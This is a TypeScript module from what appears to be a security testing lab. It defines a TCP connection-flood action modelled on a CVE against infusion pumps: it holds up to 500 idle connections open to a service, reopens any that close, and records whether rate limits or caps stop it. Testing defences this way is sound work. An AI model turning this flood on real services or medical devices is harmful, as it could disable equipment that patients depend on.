import type net from 'node:net';
import { z } from 'zod';
import type { Endpoint } from '../engine/lab-under-test.ts';
import type { Action, AttackContext, ClientEvidence } from './action.ts';
import { dial } from './clients/dial.ts';
import { failureOf, type ClientFailure } from './clients/failure.ts';
import { connectionChannel, evidence, evidenceCodes, report, statusOf, tally } from './evidence.ts';
import { holdFor } from './lab-hold.ts';
import { addressOf, consoleService, consoleTargets, endpointFor } from './targets.ts';

const params = z.strictObject({
  /** A service name of the topology; `pump-maintenance` floods the first console reachable. */
  service: z.string().min(1).max(40),
  /** Connections kept open at once (bounded: the lab shares one machine). */
  connections: z.number().int().positive().max(500),
  /** Lab milliseconds to keep the flood up. */
  holdMs: z.number().int().positive().max(1_800_000),
});

/** Real milliseconds: each connect; how long a connection must live to count as accepted; between reopens. */
const timing = { connectMs: 3_000, settleMs: 250, reopenMs: 50 };

/**
 * A connection flood against one service (CVE-2015-3958: a TCP flood left a pump needing a manual
 * reboot; ADVISORIES.md pattern 7): keeps `connections` TCP connections open from the attacker's
 * address for `holdMs` of lab time, sending nothing, and reopens each one the service or the gateway
 * closes. A connection counts as accepted when it outlives a short settle (a gateway that refuses
 * resets at once). Done when at least half of the first wave was accepted; a rate limit or a
 * connection cap that cuts most of them leaves it blocked, with each refusal's errno.
 */
export const flood: Action<typeof params> = {
  name: 'flood',
  summary: 'Opens and holds many TCP connections to one service, reopening those that close.',
  params,
  async run(context, { service, connections, holdMs }) {
    const target = floodTarget(context, service);
    if (!target.ok) return report('blocked', `No route to ${service}.`, [target.evidence]);
    const where = addressOf(target.endpoint);
    const refusals: ClientEvidence[] = [];
    const open = new Set<net.Socket>();
    const state = { running: true, accepted: 0 };
    const keep = async (): Promise<boolean> => {
      const outcome = await openOne(context, target.endpoint);
      if (!outcome.ok) {
        refusals.push(evidence(connectionChannel(outcome.code), outcome.code, 'connection refused', where));
        return false;
      }
      state.accepted += 1;
      open.add(outcome.socket);
      outcome.socket.once('close', () => {
        open.delete(outcome.socket);
        if (state.running) setTimeout(() => void (state.running && keep()), timing.reopenMs);
      });
      if (!state.running) outcome.socket.destroy();
      return true;
    };
    const firstWave = await Promise.all(Array.from({ length: connections }, keep));
    const accepted = firstWave.filter(Boolean).length;
    await holdFor(context.lab, holdMs);
    state.running = false;
    for (const socket of open) socket.destroy();
    const held = `${accepted} of ${connections} accepted, ${state.accepted} over the flood`;
    const items = [
      ...(accepted > 0 ? [evidence('socket', evidenceCodes.answered, held, where)] : []),
      ...tally(refusals),
    ];
    const summary = `${accepted} of ${connections} connection(s) to ${service} were accepted; ${state.accepted} over the whole flood.`;
    return report(statusOf(accepted * 2 >= connections), summary, items);
  },
};

/** Connects and waits out the settle: a reset inside it is the refusal. */
async function openOne(
  context: AttackContext,
  endpoint: Endpoint,
): Promise<{ ok: true; socket: net.Socket } | ClientFailure> {
  const dialed = await dial(endpoint, {
    localAddress: context.attacker.address,
    tls: false,
    timeoutMs: timing.connectMs,
  });
  if (!dialed.ok) return dialed;
  const { socket } = dialed;
  return new Promise((resolve) => {
    const timer = setTimeout(() => {
      socket.off('error', onError).off('close', onClose);
      resolve({ ok: true, socket });
    }, timing.settleMs);
    const onError = (error: Error): void => {
      clearTimeout(timer);
      socket.off('close', onClose);
      socket.destroy();
      resolve(failureOf(error));
    };
    const onClose = (): void => {
      clearTimeout(timer);
      socket.off('error', onError);
      resolve({ ok: false, code: evidenceCodes.closed, line: 'closed at once' });
    };
    socket.once('error', onError).once('close', onClose);
  });
}

function floodTarget(
  context: AttackContext,
  service: string,
): { ok: true; endpoint: Endpoint } | { ok: false; evidence: ClientEvidence } {
  if (service !== consoleService) return endpointFor(context, service);
  const first = consoleTargets(context)[0];
  return first
    ? { ok: true, endpoint: first }
    : { ok: false, evidence: evidence('socket', evidenceCodes.noEndpoint, 'no pump console') };
}
